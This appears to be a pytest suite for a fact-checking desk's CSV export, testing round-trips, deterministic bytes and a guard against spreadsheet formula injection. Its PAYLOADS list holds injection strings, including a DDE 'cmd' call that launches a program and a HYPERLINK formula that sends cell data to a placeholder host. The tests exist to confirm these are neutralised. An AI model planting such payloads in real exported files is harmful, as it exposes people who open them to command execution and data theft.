"""The verdict CSV: read back it gives the records, nothing in it runs, the bytes never vary."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from claims.export.formula_guard import guard_cell, is_row_plain, restore_cell
from claims.export.record import EvidenceRecord, VerdictRecord
from claims.export.verdict_csv import (
    COLUMNS,
    CSV_VERSION,
    EVIDENCE_COLUMNS,
    finish_verdicts,
    manifest,
    read_evidence,
    read_verdicts,
    write_evidence,
    write_verdicts,
)

CONTRACT_COLUMNS = (
    "claim_id, ticket_id, team, article_title, article_url, article_published, claim_text, "
    "claim_start, claim_end, claimant, quantity_count, value, low, high, unit, bound, hedge, "
    "measured, of_what, place, as_of, rating_scale, rating, rating_value, rating_best, "
    "rating_worst, rationale, reviewer, second_reviewer, agreed, state, created_at, decided_at, "
    "published_at, minutes_in_review, verdict_version, correction_of, evidence_count, "
    "independent_origins, primary_reached, decisive_evidence_url, decisive_quote, "
    "snapshot_sha256, snapshot_at, source_value, difference, waiver_reason, claimreview_url"
)

KATHMANDU = timezone(timedelta(hours=5, minutes=45))

FULL = VerdictRecord(
    claim_id=7,
    ticket_id=11,
    team="Numbers desk",
    article_title="Minerals, and who refines them",
    article_url="https://news.example/minerals?page=2&x=1",
    article_published=date(2025, 10, 17),
    claim_text="The country supplies nearly 70 per cent of global production.",
    claim_start=120,
    claim_end=181,
    claimant="the ministry",
    quantity_count=2,
    value=-70.25,
    unit="percent",
    bound="~",
    hedge="nearly",
    measured="production",
    of_what="global production",
    place="China",
    as_of="2025-01-01/2025-12-31",
    rating_scale="five steps",
    rating="Mostly true",
    rating_value=4.0,
    rating_best=5.0,
    rating_worst=1.0,
    rationale='Two reports say "69 %".\nA third, older one: 60 %.',
    reviewer="ana",
    second_reviewer="bo",
    agreed=True,
    state="published",
    created_at=datetime(2025, 10, 18, 9, 30, tzinfo=UTC),
    decided_at=datetime(2025, 10, 18, 15, 0, 0, 123456, tzinfo=KATHMANDU),
    published_at=datetime(2025, 10, 19, tzinfo=UTC),
    minutes_in_review=12.5,
    verdict_version=2,
    correction_of=1,
    evidence_count=3,
    independent_origins=2,
    primary_reached=False,
    decisive_evidence_url="https://stats.example/table",
    decisive_quote="69 % of output",
    snapshot_sha256="ab" * 32,
    snapshot_at=datetime(2025, 10, 18, 9, 31, tzinfo=UTC),
    source_value=69.0,
    difference=-1.0,
    waiver_reason="",
    claimreview_url="",
)

# What a formula can begin with, after folding, and what a program trims before it looks.
STARTS = tuple("=+-@−") + tuple("\t\r\n")
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?d="&A1,"see")',
    '=IMPORTXML("http://x.example","//a")',
    "=DDE(server;item;mode)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060\u00ad=1+1",
    '"=1+1',
    '" =1+1"',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "⁼1+1",
    "−1+1",
    "\x00=1+1",
    "\x1f=1+1",
    "'=1+1",
    "''=1+1",
]


def joined(blocks) -> bytes:
    return b"".join(blocks)


def is_dangerous(cell: str) -> bool:
    if cell[:1] in ("\t", "\r"):
        return True
    bare = cell.lstrip(
        '" \t\r\n\x00\x0b\x0c\x1c\x1d\x1e\x1f\x85\u00a0\u3000\ufeff\u200b\u2060\u00ad'
    )
    return unicodedata.normalize("NFKC", bare[:1]) in STARTS


def test_the_columns_are_those_of_the_contract_in_its_order() -> None:
    assert ", ".join(COLUMNS) == CONTRACT_COLUMNS
    first_line = joined(write_verdicts([])).decode().split("\r\n")[0]
    assert first_line == ",".join(f'"{name}"' for name in COLUMNS)


def test_an_empty_export_is_the_header_alone() -> None:
    assert joined(write_verdicts([])).count(b"\r\n") == 1


def test_a_full_and_an_empty_record_come_back_equal() -> None:
    records = [FULL, VerdictRecord(claim_id=1, ticket_id=2)]
    assert list(read_verdicts(joined(write_verdicts(records)))) == records


def test_unknown_values_are_empty_cells_and_whole_numbers_have_no_fraction() -> None:
    text = joined(write_verdicts([replace(FULL, low=None, value=500_000_000.0)])).decode()
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["value"] == "500000000"
    assert row["low"] == ""
    assert row["agreed"] == "true"
    assert row["primary_reached"] == "false"
    assert row["decided_at"] == "2025-10-18T15:00:00.123456+05:45"


def test_an_honest_negative_number_stands_as_it_is() -> None:
    row = next(csv.DictReader(io.StringIO(joined(write_verdicts([FULL])).decode(), newline="")))
    assert row["value"] == "-70.25"
    assert row["difference"] == "-1"


def test_a_number_that_is_none_leaves_the_cell_empty() -> None:
    strange = [replace(FULL, value=float("nan"), difference=float("-inf"))]
    back = next(read_verdicts(joined(write_verdicts(strange))))
    assert back.value is None
    assert back.difference is None


def test_a_time_without_offset_is_refused() -> None:
    with pytest.raises(ValueError, match="without an offset"):
        joined(write_verdicts([replace(FULL, created_at=datetime(2025, 1, 1))]))


def test_same_records_give_the_same_bytes_and_blocks_do_not_change_them() -> None:
    records = [replace(FULL, claim_id=number) for number in range(1000)]
    blocks = list(write_verdicts(iter(records)))
    assert len(blocks) > 2
    assert joined(blocks) == joined(write_verdicts(records))
    assert [record.claim_id for record in read_verdicts(joined(blocks))] == list(range(1000))


def test_rows_are_taken_as_they_come() -> None:
    taken = []

    def records():
        for number in range(2000):
            taken.append(number)
            yield replace(FULL, claim_id=number)

    next(write_verdicts(records()))
    assert len(taken) < 1000


def test_the_byte_order_mark_is_an_option_and_reads_back() -> None:
    with_mark = joined(write_verdicts([FULL], has_bom=True))
    assert with_mark.startswith(b"\xef\xbb\xbf")
    assert not joined(write_verdicts([FULL])).startswith(b"\xef\xbb\xbf")
    assert list(read_verdicts(with_mark)) == [FULL]


@pytest.mark.parametrize("separator", ["", ",", ";", "\t", "a,", "a;", "a\t", 'a"', "a;;", "a; \t"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_runs_whatever_separator_the_program_splits_at(payload, separator) -> None:
    record = replace(FULL, claim_text=separator + payload, rationale=payload, team=payload)
    written = joined(write_verdicts([record]))
    for delimiter in (",", ";", "\t"):
        rows = list(csv.reader(io.StringIO(written.decode(), newline=""), delimiter=delimiter))
        # Numbers are cells of their own only at the true separator, and may be negative.
        numeric = {COLUMNS.index("value"), COLUMNS.index("difference")} if delimiter == "," else ()
        for row in rows[1:]:
            if delimiter != ",":
                row = [cell.lstrip("\t\r") for cell in row]
            assert not [c for i, c in enumerate(row) if i not in numeric and is_dangerous(c)]
    assert list(read_verdicts(written)) == [record]


def test_raw_leaves_formulas_and_reads_back_as_raw() -> None:
    record = replace(FULL, claim_text="=1+1", rationale="'kept")
    written = joined(write_verdicts([record], is_raw=True))
    assert b'"=1+1"' in written
    assert list(read_verdicts(written, is_raw=True)) == [record]


def test_a_list_of_points_in_a_rationale_stays_as_written() -> None:
    assert guard_cell("Reasons:\n- first\n- second") == "Reasons:\n- first\n- second"


def naughty_strings() -> list[str]:
    pieces = ["", " ", "'", '"', ";", ",", "\t", "\n", "\r\n", "=", "+", "-", "@", "＝", "\ufeff"]
    pieces += ["\x00", "\u200b", "\u202e", "1", "NULL", "Ω≈ç", "田中", "👩‍👩‍👧", "ﷺ", "é", "|", "%"]
    return [a + b for a in pieces for b in pieces][:600] + [a * 70000 for a in ("'", ";=", "\n'")]


def test_hundreds_of_naughty_strings_survive() -> None:
    texts = naughty_strings()
    assert len(texts) > 500
    records = [replace(FULL, claim_text=text, rationale=text + "=x") for text in texts]
    assert list(read_verdicts(joined(write_verdicts(records)))) == records


def test_a_lone_surrogate_becomes_the_replacement_character() -> None:
    written = joined(write_verdicts([replace(FULL, claim_text="a\ud800b")]))
    assert next(read_verdicts(written)).claim_text == "a\ufffdb"


cells = st.text(
    st.one_of(
        st.sampled_from("'\"=+-@;,\t\r\n \u200b＝a1"), st.characters(exclude_categories=["Cs"])
    )
)


@given(cells)
@settings(max_examples=400, deadline=None)
def test_guarding_is_undone_exactly_and_leaves_nothing_dangerous(text: str) -> None:
    guarded = guard_cell(text)
    assert restore_cell(guarded) == text
    assert not is_dangerous(guarded)


@given(
    claim_text=cells,
    rationale=cells,
    value=st.none() | st.floats(allow_nan=False, allow_infinity=False),
    decided_at=st.none() | st.datetimes(timezones=st.sampled_from([UTC, KATHMANDU])),
    agreed=st.none() | st.booleans(),
    article_published=st.none() | st.dates(),
)
@settings(max_examples=200, deadline=None)
def test_read_back_gives_the_record(**changed) -> None:
    record = replace(FULL, **changed)
    assert list(read_verdicts(joined(write_verdicts([record])))) == [record]


@pytest.mark.parametrize(
    ("changed", "message"),
    [
        (lambda text: text.replace('"team"', '"group"', 1), "header"),
        (lambda text: text.replace('"true"', '"yes"', 1), "neither true nor false"),
        (lambda text: text.replace('"7","11",', '"7",', 1), "cells instead of"),
        (lambda text: "", "header"),
    ],
)
def test_another_file_is_refused_with_the_reason(changed, message) -> None:
    text = joined(write_verdicts([FULL])).decode()
    with pytest.raises(ValueError, match=message):
        list(read_verdicts(changed(text).encode()))


def test_evidence_rows_come_back_equal() -> None:
    record = EvidenceRecord(
        claim_id=7,
        ticket_id=11,
        evidence_id=5,
        url="https://stats.example/table",
        stance="refutes",
        stance_confidence=0.75,
        is_decisive=True,
        quote="=69 % of output",
        source_value=69.0,
        relative_difference=-1 / 70,
        period_from=date(2025, 1, 1),
        snapshot_at=datetime(2025, 10, 18, tzinfo=UTC),
    )
    written = joined(write_evidence([record]))
    assert list(read_evidence(written)) == [record]
    assert written.split(b"\r\n")[0].decode() == ",".join(f'"{name}"' for name in EVIDENCE_COLUMNS)


def test_the_manifest_says_who_when_what_and_how_many() -> None:
    stated = json.loads(
        manifest(
            written_by="ana",
            written_at=datetime(2025, 10, 20, 8, 0, tzinfo=UTC),
            filters={"team": "Numbers desk", "since": date(2025, 10, 1)},
            row_count=2,
            sha256="cd" * 32,
            history_head="ef" * 32,
            history_last_event=41,
        )
    )
    assert stated == {
        "columns": list(COLUMNS),
        "filters": {"since": "2025-10-01", "team": "Numbers desk"},
        "format": "verdict-csv",
        "formulas": "guarded",
        "history_head": "ef" * 32,
        "history_last_event": 41,
        "rows": 2,
        "sha256": "cd" * 32,
        "version": CSV_VERSION,
        "written_at": "2025-10-20T08:00:00+00:00",
        "written_by": "ana",
    }


@given(st.lists(cells, max_size=4))
@settings(max_examples=300, deadline=None)
def test_a_row_called_plain_has_no_cell_that_a_guard_would_change(row: list[str]) -> None:
    if is_row_plain(row):
        assert [guard_cell(cell) for cell in row] == row


@given(
    st.lists(
        st.tuples(
            st.text(max_size=30),
            st.sampled_from(["=1", '"=1', "a\n=2", "a;'-x", "\u00a0@x", "“x”", "-5", 'x",', "＝"]),
        ),
        min_size=1,
        max_size=70,
    )
)
def test_copied_lines_end_as_the_same_file(texts: list[tuple[str, str]]) -> None:
    records = [
        replace(FULL, claim_text=clean(one), rationale=two, waiver_reason=clean(one + two))
        for one, two in texts
    ]
    # A line per record, every cell as it is, ended as a database ends it.
    lines = [joined(write_verdicts([record], is_raw=True)) for record in records]
    copied = [line.split(b"\r\n", 1)[1].removesuffix(b"\r\n") + b"\n" for line in lines]
    assert joined(finish_verdicts(copied)) == joined(write_verdicts(records))
    assert joined(finish_verdicts(copied, is_raw=True)) == joined(
        write_verdicts(records, is_raw=True)
    )


def clean(text: str) -> str:
    """As the database can hold it."""
    return text.replace("\x00", "").encode("utf-8", "replace").decode()
